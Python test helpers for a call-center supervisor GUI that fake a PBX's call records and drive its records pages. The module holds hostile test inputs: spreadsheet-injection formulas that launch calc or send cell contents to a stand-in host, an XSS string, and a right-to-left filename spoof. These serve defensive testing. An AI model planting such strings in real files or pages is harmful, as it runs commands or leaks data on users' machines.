"""A service that tells odd call records, as lists and as lines, and the page of records as a user has it.

It asserts nothing.
"""

import asyncio
import json
from collections.abc import AsyncIterator, Mapping, Sequence
from contextlib import asynccontextmanager
from datetime import date, datetime, timedelta
from pathlib import Path
from typing import Any

import msgspec
from PySide6.QtCore import QDate, Qt
from PySide6.QtTest import QTest
from PySide6.QtWidgets import QApplication, QDateEdit, QLabel, QTableView

from supervisor_gui.config import keys
from supervisor_gui.options import Options
from supervisor_gui.ui.missed.span_bar import Span as MissedSpan
from tests.helpers.bad_past import FACTOR, CountedPbx
from tests.helpers.desk import ACCOUNT, Desk, open_desk
from tests.helpers.past_page import TURKEY, PastPage
from tests.helpers.qt_async import until
from tests.history.backfilling import Answering, Asked, Body

PAGE_KEYS = {"missed": Qt.Key.Key_3, "records": Qt.Key.Key_4}
"""With Ctrl."""

FORMULAS = (
    '=HYPERLINK("http://kotu.invalid/?"&A1;"Tıkla")',
    "+905550000000+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
)
"""Texts that a spreadsheet would take for a formula."""

LONG = "ABC" * 3_334
"""More than 10,000 characters."""

MARKUP = "<b>Ayşe</b><img src=x onerror=alert(1)>&amp;<script>x</script>"
CONTROLS = "Ay\x00şe\x1b[31m\u202egnp.exe\u2028\x07Can"
QUEUE = f"{ACCOUNT}-queue-Destek"
MENU = f"menu-{ACCOUNT}"
LINE = "3121110000"
STILL = ("--seed", "7", "--agents", "4", "--queues", "2", "--load", "0", "--limits", "off")


class ToldLeg(msgspec.Struct, frozen=True):
    """A leg as the PBX tells it; what is None is missing in the answer."""

    at: datetime
    source: str | None
    destination: str | None
    direction: str = "1"
    duration: object = "30"
    directory: str | None = None
    common: object = None
    line: str | None = None
    recording: str | None = None

    @property
    def when(self) -> str:
        return f"{self.at:%d.%m.%Y %H:%M:%S}"

    @property
    def fields(self) -> dict[str, Any]:
        """As JSON has it."""
        told = {
            "date": self.when,
            "destination": self.destination,
            "source": self.source,
            "duration": self.duration,
            "direction": self.direction,
            "recording": self.recording,
            "line": self.line,
            "directory": self.directory,
            "commonID": self.common,
        }
        return {name: value for name, value in told.items() if value is not None}

    def line_of(self, call: str) -> str:
        """As a line of columns has it: six of them, seven with a recording."""
        parts = [call, self.when, self.destination or "", self.source or "", str(self.duration), self.direction]
        return "|".join([*parts, *([] if self.recording is None else [self.recording])])


Told = Sequence[tuple[str, Sequence[ToldLeg]]]
"""Calls of one answer: unique id and legs."""


def as_json(calls: Told, *, comma: bool = False) -> str:
    """The list; with a comma too many wherever one can stand."""
    body = json.dumps([{"uniqueid": call, "values": [leg.fields for leg in legs]} for call, legs in calls])
    return body.replace("}]", "},]").replace("}]", "}, ]") if comma else body


def as_lines(calls: Told, *, joint: str = "<br/>\n") -> str:
    """The older form."""
    return joint.join(leg.line_of(call) for call, legs in calls for leg in legs)


def by_day(bodies: Mapping[date, Body], other: str = "40") -> Answering:
    """A body for each day that has one. Of a part of a day the whole day is told, which the PBX may do too."""

    def reply(asked: Asked) -> Body:
        return bodies.get(asked.days[0], other)

    return reply


def at(day: date, clock: str) -> datetime:
    hour, minute, second = map(int, clock.split(":"))
    return datetime(day.year, day.month, day.day, hour, minute, second, tzinfo=TURKEY)


def plain_day(day: date, count: int = 3) -> str:
    """So many answered calls, a minute apart."""
    start = at(day, "10:00:00")
    calls = [
        (
            f"p-{day:%d%m%Y}.{number}",
            [ToldLeg(start + number * timedelta(minutes=1), f"05550001{number:03}", "101", duration=f"{60 + number}")],
        )
        for number in range(count)
    ]
    return as_json(calls)


class RecordsPbx(CountedPbx):
    """What is asked of it is above all call records."""

    async def unplug(self) -> None:
        """Nobody listens any more, and what was connected is cut."""
        await self.server.__aexit__()

    async def plug_in(self) -> None:
        """As before, at the same address."""
        self.server._server = await asyncio.start_server(self.server._serve, "127.0.0.1", self.server.port)

    def about(self, *days: date, after: int = 0) -> list[Asked]:
        """The questions for call records about these days."""
        return [one for one in self.asked[after:] if one.kind == "records" and one.days[0] in days]


class RecordsPage(PastPage):
    """A page of calls in an open window."""

    def __init__(self, desk: Desk, name: str = "records") -> None:
        super().__init__(desk)
        self._name = name

    async def open(self) -> None:
        """Press the page's key."""
        before = self.page
        # No window manager gives the keyboard back when the popup with the days is closed.
        window = self.desk.shell.window
        window.activateWindow()
        await until(window.isActiveWindow, "the window has the keyboard")
        self.desk.press(PAGE_KEYS[self._name], Qt.KeyboardModifier.ControlModifier)
        await until(lambda: self.page is not before, f"the page {self._name}")

    def look_at(self, first: date, last: date) -> None:
        """Choose days as a user does."""
        self.page.spans.days_wanted.emit()
        popup = self.page.range_popup
        for edit, day in zip(popup.findChildren(QDateEdit), (first, last), strict=True):
            edit.setDate(QDate(day.year, day.month, day.day))
        popup.show_button.click()

    async def whole(self, count: int, seconds: float = 20.0) -> None:
        """Wait until so many calls are counted and nothing more is asked."""
        model = self.page.table.record_model
        await until(lambda: model.counted and model.count == count, f"{count} calls", seconds)
        await until(lambda: not self.page.progress.history.isVisible(), "nothing more is asked", 40)

    async def whole_by(self, words: str, count: int) -> None:
        """Press the button that says so as often as it is offered, until all is there."""
        model = self.page.table.record_model
        history = self.page.progress.history
        await self.press_until(words, lambda: model.count == count and not history.isVisible(), f"{count} calls")
        await self.whole(count)

    async def missed(self) -> "RecordsPage":
        """The page of missed callers, about the last 30 days, of which all calls have come."""
        page = RecordsPage(self.desk, "missed")
        await page.open()
        page.page.spans.buttons[MissedSpan.MONTH].click()
        await until(page.page.progress.history.isVisible, "days are asked for")
        await until(lambda: not page.page.progress.history.isVisible(), "nothing more is asked", 40)
        return page

    def row(self, began: str) -> list[str]:
        """The one row of the call that began then (day and clock as shown); nothing when there is none."""
        found = self.rows_of(began)
        assert len(found) < 2, f"one row for {began}: {found}"
        return found[0] if found else []

    def rows_of(self, began: str) -> list[list[str]]:
        return [row[1:] for row in self.cells if row[0] == began]

    def column(self, title: str) -> list[str]:
        """What stands below a heading, from top to bottom."""
        place = self.titles.index(title)
        return [row[place] for row in self.cells]

    async def legs_of(self, began: str) -> list[str]:
        """The lines about the legs of a call that was clicked."""
        table, details = self.page.table, self.page.details
        place = next(number for number, row in enumerate(self.cells) if row[0] == began)
        index = table.model().index(place, 0)
        table.scrollTo(index)
        QTest.mouseClick(table.viewport(), Qt.MouseButton.LeftButton, pos=table.visualRect(index).center())
        call = self.page.table.record_model.call_at(place)
        await until(lambda: details.call is not None and details.call.id == call.id, "the call is shown")
        await until(lambda: sum(one.isVisible() for one in details.legs) == min(call.legs, 60), "its legs are shown")
        return [f"{one.ends.text()} | {one.more.text()}" for one in details.legs if one.isVisible()]

    @property
    def shown_texts(self) -> list[str]:
        """All texts that this page paints."""
        return [*(cell for row in self.cells for cell in row), *(one.text() for one in self._shown(QLabel))]

    @property
    def _table(self) -> QTableView:
        return self.page.table

    @property
    def more(self) -> str:
        """What the tooltip adds to the line about the history."""
        return str(self.page.progress.history.words.toolTip())


@asynccontextmanager
async def records_opened(app: QApplication, folder: Path, pbx: RecordsPbx) -> AsyncIterator[RecordsPage]:
    """The page of records of a window that asks `pbx` for what is looked at and for today."""
    options = Options(time_factor=FACTOR, api_url=pbx.server.url)
    async with open_desk(app, folder, simulate=STILL, options=options) as desk:
        await desk.data()
        desk.program._settings.set(keys.REACH_DAYS, 0)
        page = RecordsPage(desk)
        await page.open()
        yield page
